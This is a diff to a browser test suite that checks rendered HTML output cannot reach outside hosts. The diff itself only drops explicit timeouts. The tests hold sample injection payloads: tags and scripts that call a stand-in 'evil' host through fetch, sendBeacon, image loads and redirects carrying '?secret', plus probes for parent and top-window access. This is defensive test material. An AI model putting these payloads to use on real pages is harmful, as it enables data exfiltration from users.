@@ -72,7 +72,7 @@ describe.skipIf(!browserFile)('HTML output in a real browser', () => {
     browser = await chromium.launch({ executablePath: browserFile ?? '', args: ['--no-sandbox'] })
     page = await browser.newPage()
     await page.goto(`http://127.0.0.1:${(application.address() as AddressInfo).port}/`)
-  }, 60_000)
+  })
 
   afterAll(async () => {
     await browser?.close()
@@ -99,7 +99,7 @@ describe.skipIf(!browserFile)('HTML output in a real browser', () => {
     return [...reached]
   }
 
-  it('reaches no host with anything that a page can hold', { timeout: 30_000 }, async () => {
+  it('reaches no host with anything that a page can hold', async () => {
     const pages = [
       `<img src="${evil}1"><link rel=stylesheet href="${evil}2"><link rel=preconnect href="${evil}"><video src="${evil}3" poster="${evil}4"></video>`,
       `<iframe src="${evil}5"></iframe><object data="${evil}6"></object><embed src="${evil}7"><svg><foreignObject><iframe src="${evil}8"></iframe></foreignObject><image href="${evil}9"/></svg>`,
@@ -110,7 +110,7 @@ describe.skipIf(!browserFile)('HTML output in a real browser', () => {
     expect(await attack(pages, false)).toEqual([])
   })
 
-  it('reaches no host with scripts that a person let run', { timeout: 30_000 }, async () => {
+  it('reaches no host with scripts that a person let run', async () => {
     const nested = JSON.stringify(`<script>${rtc}</script><img src=x onerror="${rtc}">`).replaceAll('</', '<\\/')
     const pages = [
       `<script>fetch('${evil}1').catch(() => 0); navigator.sendBeacon('${evil}2'); new Image().src = '${evil}3'</script>`,
@@ -124,15 +124,13 @@ describe.skipIf(!browserFile)('HTML output in a real browser', () => {
     expect(await attack(pages, true)).toEqual([])
   })
 
-  it('sends nothing when a script takes the page elsewhere', { timeout: 30_000 }, async () => {
+  it('sends nothing when a script takes the page elsewhere', async () => {
     const sent = await attack([`<script>location = '${evil}?secret'</script>`], true)
     // The browser may open a connection before it asks the policy; it says nothing on it.
     expect(sent.filter(what => what !== 'connection')).toEqual([])
   })
 
-  it('runs scripts only when told to, and they see neither the application nor its storage', {
-    timeout: 30_000,
-  }, async () => {
+  it('runs scripts only when told to, and they see neither the application nor its storage', async () => {
     const probes = [
       'parent.document',
       'top.location.href',
